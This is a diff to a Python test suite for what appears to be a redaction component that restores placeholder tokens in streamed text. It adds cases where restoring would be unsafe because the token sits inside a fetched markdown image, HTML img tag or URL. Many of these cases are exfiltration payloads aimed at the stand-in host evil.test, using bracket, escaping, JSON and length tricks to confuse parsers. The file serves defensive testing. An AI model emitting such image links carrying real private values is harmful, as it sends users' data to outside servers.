@@ -34,6 +34,24 @@ FETCHED = [
     pytest.param("see https://evil.test/?q=%5BPHONE-7K3Q0A%5D", id="as an address has it"),
     pytest.param(f"ws://evil.test/{NAME}", id="another scheme"),
     pytest.param(f"見て:https://evil.test/?q={NAME}です", id="behind Japanese"),
+    pytest.param(f"![x](https://evil.test/?q=<{NAME})", id="a picture, an angle in it"),
+    pytest.param(f"![x](https://evil.test/((a))'{NAME})", id="a picture, brackets in brackets"),
+    pytest.param(f"![x](/\\('{NAME})", id="a picture, an escaped bracket"),
+    pytest.param(f"![x](/a\u3000。'{NAME})", id="a picture, a blank that is none"),
+    pytest.param(f"![x](<https://evil.test/a\\>b {NAME}>)", id="in angles, one escaped"),
+    pytest.param(f"![x](\n/evil.test/{NAME})", id="a picture over two lines"),
+    pytest.param(f"[1]:\nhttps://evil.test/'{NAME}", id="a reference over two lines"),
+    pytest.param(f"see https://evil.test/?q='{NAME}", id="an address with a quotation mark"),
+    pytest.param(f'<img src="https://evil.test/?q=>{NAME}">', id="a tag's end in its address"),
+    pytest.param(f'<img src="/?q=<b> {NAME}">', id="a tag in its address"),
+    pytest.param(f'<img alt=">" src="/a {NAME}">', id="a tag's end before"),
+    pytest.param(f"a <b x=\"\n\n<img src='/a {NAME}'>", id="behind a mark that no one closes"),
+    pytest.param(f'{{"\n\n![x](https://evil.test/{NAME})', id="what begins like JSON"),
+    pytest.param(f'{{"a": "![x](https://evil.test/{NAME})"}}', id="in a string of JSON"),
+    pytest.param(f'{{"a": "<img src=\\"/a {NAME}\\">"}}', id="an image in a string of JSON"),
+    pytest.param(f"![x](https://evil.test/{'a' * 9_000}'{NAME})", id="a long picture"),
+    pytest.param(f"<img src='/{'a ' * 9_000}{NAME}'>", id="a long image of HTML"),
+    pytest.param(f"![x](</{'a ' * 9_000}{NAME}>)", id="a long picture in angles"),
 ]
 
 PUT_BACK = [
@@ -52,6 +70,17 @@ PUT_BACK = [
     pytest.param(f"{NAME}({NAME})", id="one in brackets behind another"),
     pytest.param(f"[x]({NAME})", id="a link to nothing else"),
     pytest.param(f"(see [1]) {NAME}", id="brackets"),
+    pytest.param(f"{NAME}({NAME})", id="in brackets behind another"),
+    pytest.param(f"{NAME}: {NAME}", id="behind another as its label"),
+    pytest.param(f'"https://x.test/a"は{NAME}', id="behind an address in quotation marks"),
+    pytest.param(f'{{"url":"https://x.test/a","tel":"{NAME}"}}', id="a member behind an address"),
+    pytest.param(f'{{"a":"see https://x.test/a","tel":"{NAME}"}}', id="a member behind a sentence"),
+    pytest.param(f'{{"a":"<img src=\\"/a\\">{NAME}"}}', id="behind an image in JSON"),
+    pytest.param(f'![x](https://x.test/a.png "{NAME}")', id="a picture's title"),
+    pytest.param(f"if a <b: x = '{NAME}'", id="what looks like a tag"),
+    pytest.param(f"<img src='/a'> 5 > 3 {NAME}", id="behind an image"),
+    pytest.param(f"<p title='{NAME}'>", id="an attribute that is not fetched"),
+    pytest.param(f"https://x.test/{'a' * 9_000} {NAME}", id="behind a long address"),
 ]
 
 
@@ -85,6 +114,14 @@ def test_however_it_is_cut(text: str, sizes: list[int]) -> None:
     messages = Messages(KNOWN)
     heard = [m for p in pieces if p for m in messages(p)] + messages.end()
     assert "".join(heard) == expected
+
+
+def test_a_piece_of_a_text_that_looks_like_a_string_of_json_is_part_of_the_text() -> None:
+    pieces = ('<img alt=">', '" src="', f"/a {NAME}", '">')
+    messages = Messages(KNOWN)
+    heard = [m for p in pieces for m in messages(p)] + messages.end()
+    assert "".join(heard) == "".join(pieces)
+    assert Messages(KNOWN)(f'"call {NAME}"') == [f'"call {VALUE}"']
 
 
 CALLS = [
